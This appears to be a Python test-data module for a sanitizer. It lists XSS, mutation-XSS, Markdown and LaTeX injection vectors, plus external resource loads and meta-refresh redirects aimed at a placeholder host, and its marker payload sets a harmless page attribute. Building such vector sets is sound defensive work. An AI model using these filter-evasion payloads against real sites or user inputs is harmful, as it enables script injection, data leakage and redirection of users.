"""Texts that try to run a script, to load something or to leave the page.

Sources: the OWASP cheat sheet on filter evasion, the HTML5 Security Cheatsheet, and what
was written about mutation XSS (Heiderich and others, mXSS attacks, CCS 2013; Bentkowski,
Mutation XSS via namespace confusion, 2020).
"""

import base64

HOST = "https://example.invalid"
PWN = "document.documentElement.setAttribute('data-pwned', '1')"
PWN_64 = base64.b64encode(f"<script>{PWN}</script>".encode()).decode()

SCRIPTS = [
    f"<script>{PWN}</script>",
    f"</code></pre><script>{PWN}</script>",
    f"<img src=x onerror=\"{PWN}\">",
    f"<svg onload=\"{PWN}\"></svg>",
    f"<svg><animate onbegin=\"{PWN}\" attributeName=x dur=1s></svg>",
    f"<iframe srcdoc=\"<script>parent.{PWN}</script>\"></iframe>",
    f"<a href=\"javascript:{PWN}\" autofocus onfocus=\"{PWN}\">a</a>",
    f"<details open ontoggle=\"{PWN}\">d</details>",
    f"<body onload=\"{PWN}\">",
    f"\"><script>{PWN}</script>",
    f"'-{PWN}-'",
    f"\" onmouseover=\"{PWN}\" x=\"",
    f"{{{{ ''.__class__ }}}} {{% raw %}} ${{{PWN}}}",
    f"<math><mtext><script>{PWN}</script></mtext></math>",
    f"<math><annotation-xml encoding=\"text/html\"><img src=x onerror=\"{PWN}\"></annotation-xml></math>",
    f"<math href=\"javascript:{PWN}\"><mi>x</mi></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{PWN}\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    f"onerror={PWN}&gt;\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={PWN}>\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={PWN}>\">",
    f"<svg><use href=\"data:image/svg+xml;base64,{PWN_64}#x\"></use></svg>",
    f"<svg><foreignObject><iframe srcdoc=\"<script>parent.{PWN}</script>\"></iframe></foreignObject></svg>",
    f"<object data=\"data:text/html;base64,{PWN_64}\"></object>",
    f"<embed src=\"data:text/html;base64,{PWN_64}\">",
    f"<a href=\"data:text/html;base64,{PWN_64}\">data</a>",
    f"<marquee onstart=\"{PWN}\">m</marquee>",
    f"<video><source onerror=\"{PWN}\"></video>",
    f"<input autofocus onfocus=\"{PWN}\">",
    f"<xmp><p title=\"</xmp><img src=x onerror={PWN}>\">",
    f"<template><script>{PWN}</script></template>",
    f"<div style=\"background: url({HOST}/s.png); position: fixed; inset: 0\">over all</div>",
    f"<a href=\"java\tscript:{PWN}\">tab</a><a href=\"&#106;avascript:{PWN}\">reference</a>",
    f"[a](javascript:{PWN}) ![b]({HOST}/d.png) <javascript:{PWN}>",
    f"[b]: javascript:{PWN}\n[b] [c](data:text/html;base64,{PWN_64}) [d](vbscript:x)",
    f"```\"><script>{PWN}</script>\ncode\n```",
    f"$\\text{{<script>{PWN}</script>}}$",
    f"$$\\href{{javascript:{PWN}}}{{\\style{{background: url({HOST}/m.png)}}{{x}}}}$$",
    f"$\\color{{red\" onclick=\"{PWN}}}{{x}} \\class{{warning}}{{y}} \\text{{</math><img src=x onerror={PWN}>}}$",
    f"\\begin{{align}} \\text{{<img src=x onerror={PWN}>}} \\end{{align}}",
    f"\u202e>tpircs/<{PWN}>tpircs<\u202c \uff1cscript\uff1e{PWN}\uff1c/script\uff1e",
    f"<scr\0ipt>{PWN}</scr\0ipt>\u2028<!--\u2029--!><script>{PWN}</script>",
]
LOADS = [
    f"<link rel=stylesheet href={HOST}/a.css>",
    f"<base href={HOST}/>",
    f"<style>@import '{HOST}/b.css'; * {{ display: none }}</style>",
    f"<img src={HOST}/c.png srcset=\"{HOST}/c2.png 2x\">",
    f"<form action={HOST}/><input autofocus></form>",
    f"<iframe src={HOST}/f.html></iframe>",
    f"<table background={HOST}/t.png><tr><td background={HOST}/u.png>x</td></tr></table>",
    f"<link rel=preconnect href={HOST}><link rel=prefetch href={HOST}/g.js>",
]
# a redirection is the one thing that a policy in a page cannot forbid
REDIRECTS = [
    f"<meta http-equiv=refresh content='0; url={HOST}/'>",
    f"<noscript><meta http-equiv=refresh content='0; url={HOST}/n'></noscript>",
]
BREAKS = "</style></title><textarea><plaintext><!-- \0 \u202e"
VECTORS = [*SCRIPTS, *LOADS, *REDIRECTS, BREAKS]

SVG = (f"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" "
       f"onload=\"{PWN}\" width=\"40\" height=\"40\"><script>{PWN}</script>"
       f"<style>@import '{HOST}/s.css';</style>"
       f"<image href=\"{HOST}/i.png\" width=\"9\" height=\"9\"/>"
       f"<a xlink:href=\"javascript:{PWN}\"><rect width=\"40\" height=\"40\"/></a>"
       f"<rect width=\"20\" height=\"20\" style=\"fill: url({HOST}/f.svg#x)\" onclick=\"{PWN}\"/>"
       f"<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\" "
       f"onerror=\"{PWN}\"/></body></foreignObject>"
       f"<set attributeName=\"x\" onbegin=\"{PWN}\"/></svg>")
